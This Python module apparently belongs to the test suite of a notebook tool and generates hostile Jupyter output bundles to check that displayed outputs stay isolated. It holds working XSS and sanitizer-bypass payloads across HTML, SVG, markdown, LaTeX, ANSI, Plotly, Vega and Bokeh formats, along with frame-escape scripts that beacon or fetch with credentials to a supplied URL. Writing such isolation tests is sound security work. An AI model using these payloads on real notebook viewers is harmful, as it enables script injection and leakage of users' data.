"""Outputs of a hostile machine, one for each known way to run code where a notebook shows them.

Each leaves `owned` in the page if it runs there, and asks a server for a page of its own name.
"""

from __future__ import annotations

import json
from typing import Any

Bundle = dict[str, Any]

ACT = (
    "for (const w of [window, parent, top]) {{ try {{ w.owned = (w.owned || '') + ' {name}';"
    " w.document.title = 'owned'; w.localStorage.setItem('owned', '{name}');"
    " w.jupyterapp.commands.execute('application:close-all') }} catch (e) {{}} }}"
    " try {{ fetch('{url}/{name}-fetch', {{mode: 'no-cors', credentials: 'include'}})"
    ".catch(() => 0) }} catch (e) {{}}"
    " new Image().src = '{url}/{name}-img';"
)

LEAVE = {
    "location": "location = '{url}/location'",
    "meta": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url={url}/meta\">'",
    "link": "const a = document.createElement('a'); a.href = '{url}/link'; a.click()",
    "blank": "const b = document.createElement('a'); b.href = '{url}/blank'; b.target = '_blank';"
    " b.click(); window.open('{url}/open')",
    "download": "const d = document.createElement('a'); d.href = '{url}/download';"
    " d.download = 'x'; d.click()",
    "form": "const f = document.createElement('form'); f.action = '{url}/form'; f.method = 'post';"
    " document.body.append(f); f.submit()",
    "above": "try {{ top.location = '{url}/top' }} catch (e) {{}}"
    " try {{ parent.location = '{url}/parent' }} catch (e) {{}}",
    "within": "const i = document.createElement('iframe'); i.src = '{url}/within';"
    " document.body.append(i)",
    "blob": "location = URL.createObjectURL(new Blob(['<script>location=\"{url}/blob\"<'"
    " + '/script>'], {{type: 'text/html'}}))",
    "data": "location = 'data:text/html,<script>location=\"{url}/data\"<' + '/script>'",
    "beacon": "navigator.sendBeacon('{url}/beacon'); new WebSocket('{url}/ws')",
    "rules": "const s = document.createElement('script'); s.type = 'speculationrules';"
    " s.textContent = JSON.stringify({{prefetch: [{{urls: ['{url}/rules']}}]}});"
    " document.head.append(s)",
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href={url}>'",
    "worker": 'new Worker(URL.createObjectURL(new Blob([\'fetch("{url}/worker")'
    ".catch(() => 0)'])))",
}
"""Scripts that leave their frame, or send something out of it, without reaching into the page."""

WEBRTC = (
    "const rtc = {{iceServers: [{{urls: 'turn:{host}?transport=tcp', username: 'u',"
    " credential: 'p'}}]}};"
    " const dial = 'const p = new RTCPeerConnection(' + JSON.stringify(rtc) + ');"
    " p.createDataChannel(1); p.createOffer().then(o => p.setLocalDescription(o))';"
    " const inner = document.createElement('iframe');"
    " inner.srcdoc = '<script>' + dial + '<' + '/script>'; document.body.append(inner);"
    " setTimeout(() => {{ try {{ inner.contentWindow.eval(dial) }} catch (e) {{}} }}, 200);"
    " eval(dial)"
)


def programs(url: str) -> list[Bundle]:
    """Return outputs that try to run code in the page, each in one form of a viewer."""

    def act(name: str) -> str:
        return ACT.format(name=name, url=url)

    def image(name: str) -> str:
        return f'<img src=x onerror="{act(name)}">'

    def html(name: str, text: str) -> Bundle:
        return {"text/html": text, "text/plain": name}

    def form(mime: str, value: Any) -> Bundle:
        return {mime: value, "text/plain": mime}

    return [
        html("script", f"<script>{act('script')}</script>"),
        html("onerror", image("onerror")),
        html("srcdoc", f'<iframe srcdoc="<script>{act("srcdoc")}</script>"></iframe>'),
        html("base", f"<base href={url}><img src=base>"),
        html("refresh", f'<meta http-equiv=refresh content="0;url={url}/refresh">'),
        html(
            "mutation",
            "<form><math><mtext></form><form><mglyph><style></math>" + image("mutation"),
        ),
        html("noscript", f"<noscript><p title='</noscript>{image('noscript')}'></noscript>"),
        html("template", "<template><b>x</b></template>"),
        html("style", f"<svg></p><style><a id='</style>{image('a')}'>"),
        html("comment", f"<!--><b>--!>{image('comment')}<![CDATA[{image('cdata')}]]>"),
        html("command", '<span data-commandlinker-command="application:close-all">x</span>'),
        {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"'
         f' onload="{act("svg")}"><script>{act("svg-script")}</script><foreignObject>'
         f'<body xmlns="http://www.w3.org/1999/xhtml" onload="{act("foreign")}"/></foreignObject>'
         '</svg>', "text/plain": "svg"},
        form("application/javascript", act("javascript")),
        form("text/markdown", image("markdown")),
        form("text/markdown", f"[x](javascript:{act('link')})"),
        form("text/markdown", "```mermaid\ngraph TD\nA[<img src=x onerror='top.owned=1'>]\n```"),
        form("text/latex", r"$\href{javascript:top.owned=1}{x} \require{html}$"),
        form("application/geo+json", {
            "type": "Feature", "geometry": {"type": "Point", "coordinates": [0, 0]},
            "properties": {"popup": image("geojson")}}),
        form("application/vnd.jupyter.widget-view+json", {"model_id": "x", "version_major": 2}),
        form("application/vnd.odd.v1+json", {"html": image("odd")}),
        form("application/vnd.dataresource+json", {"data": [{"a": image("resource")}]}),
        form("application/json", {"a": image("json"), "__html": image("json")}),
        form("text/plain", f"\x1b]8;;javascript:{act('ansi')}\x07x\x1b]8;;\x07 {image('ansi')}"),
    ]  # fmt: skip


def charts(url: str) -> list[Bundle]:
    """Return hostile charts of viewers whose library is drawn in the frame, if it is installed."""
    image = f'<img src=x onerror="{ACT.format(name="chart", url=url)}">'
    link = '<a href="javascript:top.owned=1">x</a>'
    empty = {"type": "FeatureCollection", "features": []}
    source = {"type": "geojson", "data": empty, "attribution": image + link}
    tiles = {"type": "raster", "tiles": [f"{url}/tile"]}
    style = {"version": 8, "sources": {"s": source, "t": tiles}, "layers": [
        {"id": "l", "type": "circle", "source": "s"}]}  # fmt: skip
    layout = {
        "title": {"text": image + link},
        "annotations": [{"text": link + image, "x": 1, "y": 1}],
        "images": [{"source": f"{url}/plotly-image", "x": 0, "y": 0, "sizex": 1, "sizey": 1}],
        "meta": image,
    }
    plain = {"data": [{"y": [1, 3], "hovertemplate": image, "text": image}], "layout": layout}
    maps = [
        {"data": [{"type": kind, "lat": [0], "lon": [0]}], "layout": {name: {"style": style}}}
        for kind, name in (("scattermap", "map"), ("scattermapbox", "mapbox"))
    ]
    vega: Bundle = {
        "data": {"url": f"{url}/vega-data"},
        "mark": {"type": "bar", "tooltip": {"content": "data"}, "href": "javascript:top.owned=1"},
        "transform": [{"calculate": "warn('x') || 'javascript:top.owned=1'", "as": "x"}],
        "encoding": {"x": {"field": "a", "title": image}},
        "usermeta": {"embedOptions": {"loader": {"baseURL": url}, "sourceHeader": image}},
    }
    plotly = "application/vnd.plotly.v1+json"
    return [
        *({plotly: figure, "text/plain": "figure"} for figure in (plain, *maps)),
        *({f"application/vnd.vegalite.{version}+json": vega, "text/plain": "chart"}
          for version in ("v5", "v6.1.0")),
        {"application/vnd.vega.v5+json": {"marks": [], "data": [{"name": "t", "url": f"{url}/v"}]},
         "text/plain": "chart"},
        *({**bokeh_bundle(script), "text/plain": "figure"}
          for script in (ACT.format(name="bokeh", url=url), *bokeh_figures(image))),
        {"application/javascript": ACT.format(name="bokeh-load", url=url),
         "application/vnd.bokehjs_load.v0+json": ACT.format(name="bokeh-load", url=url)},
    ]  # fmt: skip


def bokeh_bundle(script: str) -> Bundle:
    """Return the forms in which Bokeh sends a figure."""
    return {"application/javascript": script, "application/vnd.bokehjs_exec.v0+json": ""}


def bokeh_figures(text: str) -> list[str]:
    """Return what Bokeh 3 and 2.4 write for a figure, with HTML in each place that takes text."""
    button = {"label": text, "js_event_callbacks": {}}
    new = {"version": "3.8.0", "title": text, "roots": [
        {"type": "object", "name": "Div", "id": "p1", "attributes": {"text": text}}]}  # fmt: skip
    old = {"version": "2.4.3", "title": text, "defs": [], "roots": {
        "references": [{"id": "p1", "type": "Div", "attributes": {"text": text}},
                       {"id": "p2", "type": "Button", "attributes": button}],
        "root_ids": ["p1", "p2"]}}  # fmt: skip
    items = [{"docid": "d", "roots": {"p1": text, "p2": "place"}, "root_ids": ["p1"]}]
    return [
        f"(function(root) {{ const docs_json = {json.dumps({'d': document})};"
        f" const render_items = {json.dumps(items)};"
        " root.Bokeh.embed.embed_items_notebook(docs_json, render_items); })(window);"
        for document in (new, old)
    ]


def leavers(url: str, host: str) -> list[Bundle]:
    """Return pages with a script each that leaves its frame or sends something out of it."""
    scripts = {name: code.format(url=url) for name, code in LEAVE.items()}
    scripts["webrtc"] = WEBRTC.format(host=host)
    return [
        {"text/html": f"<p>{name}</p><script>setTimeout(() => {{ {code} }}, 10)</script>",
         "text/plain": name}
        for name, code in scripts.items()
    ]  # fmt: skip


def show(name: str) -> str:
    """Return a cell for a machine that displays the outputs of a variable, and updates the last."""
    return (
        f"%%on dev -i {name}\nfrom IPython.display import display, update_display\n"
        f"for bundle in {name}:\n    display(bundle, raw=True, metadata={{'isolated': True}})\n"
        "display({'text/plain': 'x'}, raw=True, display_id='again')\n"
        f"update_display({name}[0], raw=True, display_id='again')\n"
    )
